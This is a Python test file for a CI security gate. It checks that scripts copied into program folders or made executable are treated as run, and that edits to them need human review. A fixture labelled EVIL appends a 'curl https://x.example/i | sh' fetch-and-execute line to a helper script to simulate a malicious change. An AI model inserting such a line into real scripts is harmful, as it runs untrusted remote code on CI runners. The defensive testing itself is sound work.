"""Attack 38: a script a CI line copies where programs run from, or makes executable, then runs by another name.

`install -m755 tools/gen "$HOME/bin/gen" && gen`, `sudo cp tools/gen /usr/local/bin/ && gen`, `cp tools/gen
$RUNNER_TEMP/g && $RUNNER_TEMP/g`, `ln -s "$PWD/tools/gen" ~/.local/bin/gen`, `chmod +x tools/gen && cd tools && ./gen`:
the shell runs tools/gen's code, yet the walk read no command naming it, so an extension-less helper edited beside
such a line was allowed (`gate --tree --enable deps`, exit 0 on main 1dfd7bd). Now the sources of `install`, and of
`cp`, `mv`, `ln` or `rsync` into a program folder (`bin`, `sbin`, `libexec`, git `hooks`) or a scratch one (`/tmp`,
`$RUNNER_TEMP`, `$HOME`, `~`), and the operands of `chmod` that add execution, are scripts the line runs. Real bash
runs the helper in each form the test can run here (the destination under the test's own HOME).
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import ciruns, walkpaths

HELPER = "#!/bin/sh\necho ran > \"$HOME/ran.txt\"\n"
EVIL = HELPER + "curl https://x.example/i | sh\n"
# {h}: a home-like folder the test can write (the CI runner's $HOME, /usr/local/bin or $RUNNER_TEMP in production)
LINES = [
    'install -m755 tools/gen "{h}/bin/gen" && "{h}/bin/gen"', "install -D -m 0755 tools/gen {h}/bin/gen; {h}/bin/gen",
    "install -t {h}/bin tools/gen && {h}/bin/gen", "cp tools/gen {h}/bin/gen && {h}/bin/gen",
    "cp -v ./tools/gen {h}/bin/ && {h}/bin/gen", "cp tools/gen {h}/tmp-g && {h}/tmp-g",
    'ln -s "$PWD/tools/gen" {h}/bin/gen && {h}/bin/gen', "ln -sf $(pwd)/tools/gen {h}/bin/gen; {h}/bin/gen",
    "mv tools/gen {h}/bin/gen && {h}/bin/gen", "rsync -a tools/gen {h}/bin/ && {h}/bin/gen",
    "chmod +x tools/gen && cd tools && ./gen", "chmod 755 tools/gen; (cd tools; ./gen)", "chmod u+x ./tools/gen",
    "chmod a+rx tools/gen && PATH=$PWD/tools:$PATH gen", "chmod -R +x tools/gen",
]
# how they read in production, outside the test's HOME
PRODUCTION = ["sudo install -m 755 tools/gen /usr/local/bin/gen", "sudo cp tools/gen /usr/local/bin/",
              "cp tools/gen $RUNNER_TEMP/gen && $RUNNER_TEMP/gen", "cp tools/gen /tmp/gen; /tmp/gen",
              "ln -s $GITHUB_WORKSPACE/tools/gen ~/.local/bin/gen", "cp tools/gen .git/hooks/pre-commit",
              "sudo mv tools/gen /usr/bin/", "install tools/gen $HOME/.local/bin"]
DEFINITIONS = [
    (".github/workflows/ci.yml", "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
                                 "      - uses: actions/checkout@v4\n      - run: {line}\n"),
    (".gitlab-ci.yml", "build:\n  script:\n    - {line}\n"),
    ("ci/build.sh", "#!/bin/bash\nset -e\n{line}\n"),
]


def _names(path: str, template: str, line: str) -> bool:
    text = template.format(line="'" + line.replace("'", "''") + "'" if path.endswith(".yml") else line)
    scripts, _, folders = ciruns.named_in(path, text)
    return any(walkpaths.reaches(p, "tools/gen") for named in scripts for p in ciruns.resolved(named, path, folders))


@each_case("line", [line.format(h="$HOME") for line in LINES] + PRODUCTION)
def test_a_copied_or_executable_script_is_named(line: str) -> None:
    missed = [path for path, template in DEFINITIONS if not _names(path, template, line)]
    assert not missed, (line, missed)


@each_case("line", [line for line in LINES if "u+x" not in line and "-R" not in line
                                  and (shutil.which("rsync") is not None or "rsync" not in line)])
def test_the_shell_runs_the_copied_script(tmp_path: Path, line: str) -> None:
    home = tmp_path / "home"
    (home / "bin").mkdir(parents=True)
    work = tmp_path / "work"
    (work / "tools").mkdir(parents=True)
    (work / "tools" / "gen").write_text(HELPER)
    (work / "tools" / "gen").chmod(0o755 if "chmod" not in line else 0o644)
    done = subprocess.run(["bash", "-c", line.format(h=home)], cwd=work, capture_output=True, timeout=30,
                          check=False, env={"PATH": os.environ["PATH"], "HOME": str(home)})
    assert (home / "ran.txt").exists(), (line, done.stderr[-400:])


LOOK_ALIKES = ["cp tools/gen tools/gen.bak", "cp tools/gen dist/", "install -d tools/gen", "chmod -x tools/gen",
               "chmod 644 tools/gen", "cp -r tools/gen build/out", "mv tools/gen tools/old-gen", "ls -l tools/gen"]


@each_case("line", LOOK_ALIKES)
def test_a_file_copied_elsewhere_is_not_named(line: str) -> None:
    for path, template in DEFINITIONS:
        assert not _names(path, template, line), (path, line)


@pytest.mark.parametrize("line", PRODUCTION[:3])
def test_the_gated_edit_needs_a_human(tmp_path: Path, line: str) -> None:
    workflow = DEFINITIONS[0][1].format(line="'" + line + "'")
    _, first, second = two_commits(tmp_path, {".github/workflows/ci.yml": workflow, "tools/gen": HELPER,
                                              "README.md": "x\n"}, {"tools/gen": EVIL})
    code, decision = tree_gate(tmp_path, first, second, None, "--enable", "deps")
    assert code == 3, decision["reasons"]
